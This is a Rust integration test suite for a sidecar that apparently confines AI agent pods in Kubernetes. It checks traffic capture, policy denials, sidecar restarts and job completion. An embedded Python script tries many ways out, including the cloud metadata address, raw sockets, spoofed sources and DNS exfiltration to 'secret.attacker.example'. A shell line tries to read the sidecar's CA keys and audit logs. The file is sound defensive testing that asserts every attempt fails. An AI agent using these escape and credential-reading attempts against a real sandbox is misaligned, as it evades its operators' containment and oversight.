//! A pod on this machine, made from the injected manifest: its own network with a cable to the world, the fence put up by
//! its init container or by the node, the sidecar as its own user without capabilities, and agents as they come.

mod custody;
mod kubelet;

use std::{
    collections::BTreeMap,
    fs,
    io::Write,
    path::Path,
    process::{Command, Output, Stdio},
    time::{Duration, Instant},
};

use bytes::Bytes;
use futures_util::stream;
use http::{HeaderMap, HeaderName, HeaderValue, Request, Response};
use http_body_util::{BodyExt, StreamBody};
use hyper::body::{Frame, Incoming};
use rustix::process::Signal;
use serde_json::{Value, json};
use tokio::time::sleep;

use self::kubelet::Pod;
use crate::{
    actors::{Origin, origin},
    clients, cni,
    machine::{Network, TOLLGATE, WORLD4, can_be_had},
};

const NAME: &str = "api.example.test";

/// What the platform and the agent's team write.
const JOB: &str = r#"
apiVersion: batch/v1
kind: Job
metadata: {name: triage, namespace: agents}
spec:
  template:
    metadata: {labels: {app: triage}}
    spec:
      restartPolicy: Never
      containers:
      - {name: agent, image: "registry.example.test/agent:1", command: [curl, -sS, "https://api.example.test/hello"], securityContext: {runAsUser: 1000, runAsGroup: 1000}}
      - {name: root, image: "registry.example.test/agent:1", command: ["true"], securityContext: {runAsUser: 0, runAsGroup: 0}}
"#;

const CONFIG: &str = r#"
agent: {identity: {kind: static, id: "spiffe://${TOLLGATE_TRUST_DOMAIN}/ns/${TOLLGATE_POD_NAMESPACE}/sa/${TOLLGATE_SERVICE_ACCOUNT}"}}
listen: {proxy: "127.0.0.1:${TOLLGATE_PROXY_PORT}", transparent: "127.0.0.1:${TOLLGATE_TRANSPARENT_PORT}", dns: "127.0.0.1:${TOLLGATE_DNS_PORT}", health: "0.0.0.0:${TOLLGATE_HEALTH_PORT}"}
tls:
  authority: {dir: /run/tollgate/ca, trust_bundle: /etc/tollgate/trust/ca.pem, java_trust_store: /etc/tollgate/trust/truststore.jks}
  origin_roots: {system: false, files: [/etc/tollgate/config/root.pem]}
destinations: {api: {hosts: [api.example.test], ports: [443], addresses: [10.77.0.1]}}
policy: {paths: [/etc/tollgate/policy]}
audit: {file: /var/log/tollgate/audit.jsonl}
"#;

const POLICY: &str = r#"
package tollgate

default decision := {"decision": "allow"}

decision := {"decision": "deny", "reason": "no_writes", "message": "this task only reads", "rule": "test.no_writes", "class": "security"} if writes

writes if input.call.segments[0] == "readonly"

writes if input.call.segments[1] == "Delete"
"#;

/// What the chart adds where it places a NetworkPolicy.
const POLICED: &[(&str, &str)] = &[("network-policy", "true")];

/// The pod of a manifest, by the program that the platform uses. `agent` is what the platform says of agents.
fn injected(job: &str, capture: &str, agent: Value) -> Value {
    injected_by(job, json!({"capture": capture, "agent": agent}))
}

/// The same, by more of the injector's settings.
fn injected_by(job: &str, mut settings: Value) -> Value {
    settings["image"] = "registry.example.test/tollgate:1".into();
    settings["sidecar"] = json!({"policy": "policy"});
    let dir = tempfile::tempdir().expect("a directory");
    let text = settings.to_string();
    let settings = dir.path().join("inject.yaml");
    fs::write(&settings, text).expect("written");
    let mut command = Command::new(TOLLGATE);
    command.args(["inject", "file", "--config"]).arg(&settings).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().expect("it can be started");
    child.stdin.take().expect("a pipe").write_all(job.as_bytes()).expect("it reads");
    let output = child.wait_with_output().expect("it ends");
    assert!(output.status.success(), "{output:?}");
    let job: Value = serde_saphyr::from_slice(&output.stdout).expect("YAML");
    job["spec"]["template"].clone()
}

async fn world(network: &Network) -> Origin {
    let listener = network.world.listen(&format!("{WORLD4}:443"));
    Origin::https(NAME).on(listener).answering(serve).start().await
}

/// The pod with its sidecar, before its agents.
fn started<'a>(network: &'a Network, origin: &Origin, capture: &str) -> Pod<'a> {
    started_with(network, origin, injected(JOB, capture, json!({})), capture, POLICED)
}

/// `more` is what else the platform put into the ConfigMap of the sidecar's configuration.
fn started_with<'a>(
    network: &'a Network,
    origin: &Origin,
    template: Value,
    capture: &str,
    more: &[(&'static str, &str)],
) -> Pod<'a> {
    let config = [("config.yaml", CONFIG.to_owned()), ("root.pem", origin.root.clone())].into();
    started_as(network, config, template, capture, more)
}

/// `config` is the ConfigMap of the sidecar's configuration, to which the platform put `more`.
fn started_as<'a>(
    network: &'a Network,
    mut config: BTreeMap<&'static str, String>,
    template: Value,
    capture: &str,
    more: &[(&'static str, &str)],
) -> Pod<'a> {
    if capture == "cni" {
        let runtime = cni::Runtime::of(&network.pod, template["metadata"]["annotations"].clone());
        runtime.add().expect("the node fences the pod in");
    }
    // As the runtimes of Kubernetes have it.
    network.pod.sh("echo 0 2147483647 > /proc/sys/net/ipv4/ping_group_range");
    config.extend(more.iter().map(|(key, value)| (*key, (*value).to_owned())));
    let policy = [("policy.rego", POLICY.to_owned())];
    let config_maps = [("tollgate-config", config), ("policy", policy.into())].into();
    Pod::start(&network.pod, &network.world, template["spec"].clone(), &config_maps)
}

/// The same answers as for the clients that know proxies.
async fn serve(request: Request<Incoming>) -> Response<origin::Body> {
    let path = request.uri().path().to_owned();
    if !path.starts_with("/test.Shop/") {
        return clients::serve(request).await;
    }
    let body = request.into_body().collect().await.expect("the body is whole").to_bytes();
    echoed(if path.ends_with("/Watch") { 3 } else { 1 }, body)
}

/// A gRPC answer of as many messages as are asked for, each the one that came.
fn echoed(times: usize, message: Bytes) -> Response<origin::Body> {
    let status = HeaderMap::from_iter([(HeaderName::from_static("grpc-status"), HeaderValue::from_static("0"))]);
    let messages = std::iter::repeat_n(message, times).map(Frame::data);
    let frames = messages.chain([Frame::trailers(status)]).map(Ok);
    let mut response = Response::new(StreamBody::new(stream::iter(frames)).boxed_unsync());
    response.headers_mut().insert("content-type", HeaderValue::from_static("application/grpc"));
    response
}

fn lines(output: &Output) -> Vec<String> {
    let text = String::from_utf8_lossy(&output.stdout);
    text.lines().map(str::to_owned).collect()
}

fn records(pod: &Pod<'_>) -> Vec<Value> {
    let text = fs::read_to_string(pod.file("tollgate-audit", "audit.jsonl")).expect("it is written");
    text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

/// The record of the first call to [`NAME`]. It is finished once the client has its answer, maybe a moment later.
async fn recorded(pod: &Pod<'_>) -> Value {
    let end = Instant::now() + PATIENCE;
    loop {
        let call = records(pod).into_iter().find(|record| record["call"]["host"] == NAME);
        assert!(call.is_some() || Instant::now() < end, "it is recorded");
        match call {
            Some(call) => return call,
            None => sleep(Duration::from_millis(20)).await,
        }
    }
}

/// Whether this machine has a client; in CI it must.
fn is_there(program: &str) -> bool {
    let there = Path::new(program).exists();
    assert!(there || std::env::var_os("CI").is_none(), "{program} is missing; tests/parts/install installs it");
    if !there {
        println!("skipped: needs {program} (tests/parts/install)");
    }
    there
}

#[tokio::test(flavor = "multi_thread")]
async fn every_client_is_captured_and_nothing_else_gets_out() {
    if can_be_had() {
        the_pod_holds("init", "L1").await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pod_that_the_node_fences_in_holds_as_well() {
    if can_be_had() {
        the_pod_holds("cni", "L2").await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pod_is_not_called_fenced_for_more_than_is_known_of_it() {
    if !can_be_had() {
        return;
    }
    let unnamed = JOB.replace(", securityContext: {runAsUser: 1000, runAsGroup: 1000}", "");
    for (job, capture, agent, more, level) in [
        // The container that runs as root keeps the right to become any user.
        (JOB, "init", json!({"privileges": "lower"}), POLICED, "L0"),
        // The image may say that it runs as the sidecar's user.
        (&unnamed, "init", json!({}), POLICED, "L0"),
        // Nobody said that the platform placed a NetworkPolicy in this namespace.
        (JOB, "cni", json!({}), &[], "L1"),
    ] {
        let network = Network::new();
        let origin = world(&network).await;
        let pod = started_with(&network, &origin, injected(job, capture, agent), capture, more);
        let output = pod.run("agent", &["curl", "-sS", &format!("https://{NAME}/hello")]);
        assert_eq!(lines(&output), ["/hello took 0"], "{output:?}");
        let call = recorded(&pod).await;
        assert_eq!(call["agent"]["assurance"], level, "{capture} {call}");
    }
}

async fn the_pod_holds(capture: &str, level: &str) {
    let network = Network::new();
    let origin = world(&network).await;
    let pod = started(&network, &origin, capture);
    assert!(network.escaped().is_empty(), "the check captures its own probes: {:?}", network.escaped());

    let told =
        ["GET 200 /hello took 0", "POST 200 /files took 5", "STREAM 3", "DENIED 403 no_writes", "UNLISTED refused"];
    for agent in ["agent", "root"] {
        for (needs, client) in CLIENTS {
            if !is_there(needs) {
                continue;
            }
            let script = format!("cd {PARTS} && exec {client} https://{NAME} https://paste.example.test/");
            let output = pod.run(agent, &["sh", "-c", &script]);
            assert_eq!(lines(&output), told, "{agent} {client}: {}", String::from_utf8_lossy(&output.stderr));
        }
        if is_there(PYTHON) {
            let script = format!("cd {PARTS} && exec {PYTHON} grpcio_client.py {NAME}:443 paste.example.test:443");
            let output = pod.run(agent, &["sh", "-c", &script]);
            let denied = "DENIED PERMISSION_DENIED this task only reads";
            let told = ["UNARY hello", "STREAM 3", denied, "UNLISTED UNAVAILABLE"];
            assert_eq!(lines(&output), told, "{agent} grpcio: {}", String::from_utf8_lossy(&output.stderr));
        }
        let output = pod.run(agent, &["/usr/bin/python3", "-c", WAYS_OUT]);
        let open: Vec<String> = lines(&output).into_iter().filter(|line| !line.ends_with("closed")).collect();
        assert_eq!(open, ["done"], "{agent}: {}", String::from_utf8_lossy(&output.stderr));
        let hidden = "cat /run/tollgate/ca/* /etc/tollgate/config/* /var/log/tollgate/*; touch /etc/tollgate/trust/x";
        let output = pod.run(agent, &["sh", "-c", &format!("{hidden}; exit 0")]);
        assert_eq!(lines(&output), [""; 0], "{agent} sees the sidecar's files");
        assert!(String::from_utf8_lossy(&output.stderr).contains("Read-only file system"), "{output:?}");
    }
    assert!(network.escaped().is_empty(), "{:?}", network.escaped());
    let records = records(&pod);
    let calls = records.iter().filter(|record| record["call"]["host"] == NAME);
    let levels: Vec<&str> = calls.map(|call| call["agent"]["assurance"].as_str().expect("a level")).collect();
    assert_eq!(levels, vec![level; levels.len()]);
    assert!(levels.len() > origin.requests().len(), "those that were denied are recorded, too");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dead_sidecar_closes_the_way_and_running_agents_go_on_with_the_next() {
    if !can_be_had() {
        return;
    }
    let network = Network::new();
    let origin = world(&network).await;
    let mut pod = started(&network, &origin, "init");
    let mut agent = pod.begin("agent", &["/usr/bin/python3", "-uc", LONG_LIVED]);
    let mut call = || {
        agent.say("call");
        agent.hear()
    };
    assert_eq!(call(), "200");

    pod.sidecar().signal(Signal::KILL);
    pod.sidecar().ended();
    assert_eq!(call(), "refused");
    // By address as well, and as root.
    let curl = ["curl", "-sS", "--max-time", "5", "https://192.0.2.1/"];
    for container in ["agent", "root"] {
        assert_eq!(pod.run(container, &curl).status.code(), Some(7), "refused, and not only without an answer");
    }

    pod.start_sidecar();
    assert_eq!(call(), "200", "the authority is the same, so that what the agent trusted at its start still holds");
    assert_eq!(origin.requests().len(), 2);
    assert!(network.escaped().is_empty(), "{:?}", network.escaped());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_jobs_pod_ends_when_its_agent_ends() {
    if !can_be_had() {
        return;
    }
    let network = Network::new();
    let origin = world(&network).await;
    let mut pod = started(&network, &origin, "init");
    let ended = pod.complete();
    assert_eq!(lines(&ended["agent"]), ["/hello took 0"], "{:?}", ended["agent"]);
    let codes: BTreeMap<&str, Option<i32>> =
        ended.iter().map(|(name, output)| (name.as_str(), output.status.code())).collect();
    assert_eq!(codes, [("agent", Some(0)), ("root", Some(0)), ("tollgate", Some(0))].into());
    let calls = records(&pod).iter().filter(|record| record["call"]["host"] == NAME).count();
    assert_eq!(calls, 1, "its record is whole");
}

const PATIENCE: Duration = Duration::from_secs(10);

const PARTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/parts/clients");
const PYTHON: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python");
const NODE24: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node");

/// Clients that are given no proxy, or would not look at one: what each needs, and how it is started.
const CLIENTS: [(&str, &str); 12] = [
    ("/usr/bin/curl", "sh curl.sh --http1.1"),
    ("/usr/bin/curl", "sh curl.sh --http2"),
    ("/usr/bin/node", "/usr/bin/node fetch.mjs"),
    ("/usr/bin/node", "/usr/bin/node https.mjs"),
    (NODE24, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node fetch.mjs")),
    (NODE24, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node https.mjs")),
    (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python aiohttp_client.py")),
    (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python requests_client.py")),
    (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python httpx_client.py")),
    (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python urllib3_client.py")),
    ("/usr/bin/wget", "sh wget.sh"),
    ("/usr/bin/java", "java Client.java"),
];

/// Reads its trust once, and then calls whenever it is told to.
const LONG_LIVED: &str = r#"
import ssl, sys, urllib.request
trust = ssl.create_default_context()
for line in sys.stdin:
    try:
        print(urllib.request.urlopen("https://api.example.test/hello", context=trust, timeout=10).status)
    except OSError as error:
        print("refused")
"#;

/// One line a try, which ends in `closed` where nothing came of it.
const WAYS_OUT: &str = r#"
import os, socket as s
def tell(name, act):
    try:
        print(name, "OPEN", act())
    except OSError:
        print(name, "closed")
def tcp(family, address):
    with s.socket(family) as c:
        c.settimeout(5)
        c.connect(address)
        c.sendall(b"SSH-2.0-x\r\n")
        answer = c.recv(64)
        if not answer:
            raise OSError
        return answer
def udp(family, address, device=None):
    with s.socket(family, s.SOCK_DGRAM) as c:
        if device:
            c.setsockopt(s.SOL_SOCKET, s.SO_BINDTODEVICE, device)
        return c.sendto(b"x", address)
def other(family, kind, protocol, address=None):
    with s.socket(family, kind, protocol) as c:
        return c.sendto(b"\x08\0\0\0\0\1\0\1", address) if address else "a socket"
v4, v6 = s.AF_INET, s.AF_INET6
for port in (22, 25, 853, 3306, 5432, 6443, 8080, 27017):
    tell(f"tcp {port}", lambda: tcp(v4, ("192.0.2.1", port)))
    tell(f"tcp6 {port}", lambda: tcp(v6, ("2001:db8::1", port)))
tell("tcp to the metadata", lambda: tcp(v4, ("169.254.169.254", 8443)))
tell("tcp to the node", lambda: tcp(v4, ("10.77.0.1", 22)))
for port in (123, 443, 853, 4789, 5353, 51820):
    tell(f"udp {port}", lambda: udp(v4, ("192.0.2.1", port)))
    tell(f"udp6 {port}", lambda: udp(v6, ("2001:db8::1", port)))
    tell(f"udp {port} by device", lambda: udp(v4, ("192.0.2.1", port), b"eth0"))
tell("udp to loopback by device", lambda: udp(v4, ("127.0.0.1", 15053), b"eth0"))
tell("broadcast", lambda: udp(v4, ("10.77.0.255", 9)))
tell("multicast", lambda: udp(v4, ("224.0.0.251", 5353)))
tell("multicast6", lambda: udp(v6, ("ff02::fb", 5353, 0, 2)))
tell("echo", lambda: other(v4, s.SOCK_DGRAM, s.IPPROTO_ICMP, ("192.0.2.1", 0)))
tell("raw icmp", lambda: other(v4, s.SOCK_RAW, s.IPPROTO_ICMP, ("192.0.2.1", 0)))
tell("raw udp", lambda: other(v4, s.SOCK_RAW, s.IPPROTO_UDP, ("192.0.2.1", 0)))
tell("raw gre", lambda: other(v4, s.SOCK_RAW, 47, ("192.0.2.1", 0)))
tell("raw icmp6", lambda: other(v6, s.SOCK_RAW, 58, ("2001:db8::1", 0)))
tell("packet", lambda: other(s.AF_PACKET, s.SOCK_RAW, s.htons(3)))
def named(kind, protocol, address):
    with s.socket(v6, kind, protocol) as c:
        c.setsockopt(s.IPPROTO_IPV6, 78, 1)
        c.bind(("2001:db8::7", 7777))
        c.settimeout(1)
        if kind == s.SOCK_STREAM:
            return c.connect(address)
        c.sendto(b"\x80\0\0\0\0\1\0\1", address)
        return c.recv(64)
server = s.create_server(("fd77::2", 9000), family=v6)
tell("tcp in another's name", lambda: named(s.SOCK_STREAM, 0, ("fd77::2", 9000)))
tell("udp in another's name", lambda: named(s.SOCK_DGRAM, 0, ("fd77::2", 9)))
tell("udp out in another's name", lambda: named(s.SOCK_DGRAM, 0, ("2001:db8::1", 9)))
tell("dns in another's name", lambda: named(s.SOCK_DGRAM, 0, ("2001:db8::1", 53)))
tell("echo in another's name", lambda: named(s.SOCK_DGRAM, s.IPPROTO_ICMPV6, ("fd77::2", 0)))
tell("name", lambda: s.getaddrinfo("secret.attacker.example", 443))
def dns():
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
    with s.socket(v4, s.SOCK_DGRAM) as c:
        c.settimeout(5)
        c.sendto(question, ("203.0.113.53", 53))
        answer = c.recv(512)
        if answer[3] & 15 == 3:
            raise OSError
        return answer
tell("dns elsewhere", dns)
tell("becoming the sidecar", lambda: os.setuid(15000))
tell("its processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and os.stat("/proc/" + p).st_uid == 15000][0] if any(p.isdigit() and os.stat("/proc/" + p).st_uid == 15000 for p in os.listdir("/proc")) else os.stat("/nowhere"))
print("done")
"#;
